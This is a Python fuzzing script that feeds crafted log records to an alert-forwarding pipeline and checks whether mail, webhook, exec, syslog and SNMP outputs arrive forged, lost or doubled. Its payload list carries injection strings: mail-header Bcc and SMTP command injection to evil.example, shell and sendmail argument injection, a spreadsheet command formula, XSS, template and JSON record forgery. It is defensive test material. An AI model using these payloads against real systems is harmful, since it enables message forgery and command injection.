# SPDX-License-Identifier: BSD-2-Clause
"""forgery.py write N SEED: N records of a log, each with what has broken other programs, on standard output.
forgery.py read FOLDER N: parses what came out at the other end (FOLDER/sendmail, smtp, webhook, exec: a file for each notice) with the
parsers of Python, and prints what was forged, lost or doubled; the last line is the count of each.
forgery.py wires FOLDER N: the same of what rsyslogd (FOLDER/rsyslog: one JSON object a record) and snmptrapd (FOLDER/traps: one line a
notification) have parsed.
"""
import email, email.policy, json, os, random, re, sys

PIECES = [
    b"\r\nBcc: x@evil.example\r\n", b"\nBcc: x@evil.example\n", b"\r", b"\n.\nMAIL FROM:<x@evil.example>\nRCPT TO:<y@evil.example>\nDATA\n",
    b"\r\n.\r\nQUIT\r\n", b"\n\nSubject: forged\n\n", b"\r\nX-Hashimori-Key: AAAA\r\n", b'"}\n{"kind":"cleared","key":"AAAA"}\n', b'","kind":"test","x":"',
    b"\\", b'\\"', b"\\u0000", b"\x00", b"\x1b[2J\x1b]0;owned\x07", "\u202edesrever".encode(), "\u200b\u2028\u2029\ufeff".encode(), b"\xff\xfe",
    b"\xc0\x80", b"\xed\xa0\x80", b"\xe9\x9a", b"\x83\x5c\x8b\x40\x94\x5c", b"=?UTF-8?B?Zm9yZ2Vk?=", b"=?UTF-8?Q?=0D=0ABcc=3A_x?=", b"~!id\n", b"$(id >/tmp/forged)",
    b"`id`", b"; id", b"| id", b"%s%n%1000000d", b"<script>alert(1)</script>", b"</pre>]]>", b"'\" onload=", b"From me Mon Apr 15", b"\nFrom me\n", b"--boundary\n",
    b"-oQ/tmp -X/tmp/forged", b"<@channel> @everyone", b"{{7*7}}${7*7}", "障害\u0301\u3000連携".encode(), b"=cmd|' /C calc'!A0", b"\t\tContent-Type: text/html\r\n", b"A" * 3000,
]


def write(count, seed):
    draw = random.Random(seed)
    out = sys.stdout.buffer
    for n in range(count):
        pieces = [draw.choice(PIECES) for _ in range(draw.randint(1, 6))]
        if draw.random() < 0.3:
            pieces.append(bytes(draw.randrange(256) for _ in range(draw.randint(1, 60))))
        draw.shuffle(pieces)
        body = b" ".join(pieces)
        # A line that begins as a record does would be one.
        out.write(b"FAIL k%05d %s\n" % (n, re.sub(rb"(^|\n)FAIL", rb"\1fail", body)))


def printable(text):
    return not any(ord(c) < 32 or 127 <= ord(c) < 160 or c in "\u202e\u2028\u2029" for c in text)


def read_mail(data, headers):
    mail = email.message_from_bytes(data, policy=email.policy.default)
    names = sorted(n.lower() for n in mail.keys())
    headers.setdefault("names", names)
    if names != headers["names"] or mail.defects or mail.is_multipart():
        return None, "headers %s, defects %s" % (names, mail.defects)
    if mail["to"] != "ops@example.net" or "evil" in str(mail["from"]) or not printable(str(mail["subject"])):
        return None, "to %s, from %s" % (mail["to"], mail["from"])
    if any(b > 126 for b in data) or any(len(l) > 998 for l in data.split(b"\n")):
        return None, "raw bytes or long lines"
    return mail.get_content(), mail["message-id"]


def read_json(data, headers):
    notice = json.loads(data.decode("utf-8", "strict"))
    names = sorted(notice)
    headers.setdefault("names", names)
    if names != headers["names"] or notice["kind"] != "raised" or not printable(notice["text"]):
        return None, "members %s, kind %s" % (names, notice["kind"])
    return notice["text"], notice["key"]


def read(folder, count):
    bad = 0
    for kind in ("sendmail", "smtp", "webhook", "exec"):
        headers, keys, marks, forged = {}, set(), {}, 0
        for name in sorted(os.listdir(os.path.join(folder, kind))):
            with open(os.path.join(folder, kind, name), "rb") as f:
                data = f.read()
            try:
                text, key = (read_mail if kind in ("sendmail", "smtp") else read_json)(data, headers)
            except (ValueError, KeyError) as e:
                text, key = None, str(e)
            mark = re.search(r"FAIL k(\d{5})", text) if text else None
            if mark is None or key in keys:
                forged += 1
                print("%s/%s: %s" % (kind, name, key))
                continue
            keys.add(key)
            marks[mark.group(1)] = marks.get(mark.group(1), 0) + 1
        doubled = sum(n - 1 for n in marks.values())
        print("%s: %d records, forged %d, lost %d, doubled %d" % (kind, len(marks), forged, count - len(marks), doubled))
        bad += forged + doubled + count - len(marks)
    return bad != 0


def read_syslog(line, names):
    record = json.loads(line.decode("utf-8", "strict"))
    parameters = dict(re.findall(r' ([a-z]+)="((?:[^"\\\]]|\\.)*)"', record["sd"]))
    names.setdefault("names", sorted(parameters))
    if (record["app"], record["msgid"], record["host"], record["pri"]) != ("hashimori", "HM-INC-RAISED", "renkei01", "130"):
        return None, "header %s" % record
    if sorted(parameters) != names["names"] or not record["sd"].endswith("]") or not printable(record["msg"]):
        return None, "parameters %s" % record["sd"]
    return record["msg"], parameters["key"]


def read_trap(line, names):
    # Each varbind as snmptrapd prints it with -Ox: OID = TYPE: value, TAB between two.
    values = dict(v.split(" = ", 1) for v in line.decode("ascii", "strict").split("\t") if " = " in v)
    names.setdefault("names", sorted(values))
    if sorted(values) != names["names"]:
        return None, "varbinds %s" % sorted(values)
    octets = {oid.rsplit(".", 2)[1]: value.partition("Hex-STRING: ")[2] for oid, value in values.items()}
    return bytes.fromhex(octets["11"]).decode("utf-8", "strict"), octets["10"]


def wires(folder, count):
    bad = 0
    for kind, parse in (("rsyslog", read_syslog), ("traps", read_trap)):
        names, keys, marks, forged = {}, set(), {}, 0
        with open(os.path.join(folder, kind), "rb") as f:
            data = f.read()
        # snmptrapd breaks long octets; each of its notifications begins with sysUpTime.0.
        for line in data.splitlines() if kind == "rsyslog" else data.replace(b"\n", b" ").split(b".1.3.6.1.2.1.1.3.0 = ")[1:]:
            try:
                text, key = parse(line, names)
            except (ValueError, KeyError, IndexError) as e:
                text, key = None, repr(e)
            mark = re.search(r"FAIL k(\d{5})", text) if text else None
            if mark is None or key in keys:
                forged += 1
                print("%s: %s: %s" % (kind, key, line[:300]))
                continue
            keys.add(key)
            marks[mark.group(1)] = marks.get(mark.group(1), 0) + 1
        doubled = sum(n - 1 for n in marks.values())
        print("%s: %d records, forged %d, lost %d, doubled %d" % (kind, len(marks), forged, count - len(marks), doubled))
        bad += forged + doubled + count - len(marks)
    return bad != 0


if sys.argv[1] == "wires":
    sys.exit(wires(sys.argv[2], int(sys.argv[3])))
elif sys.argv[1] == "write":
    write(int(sys.argv[2]), int(sys.argv[3]))
else:
    sys.exit(read(sys.argv[2], int(sys.argv[3])))
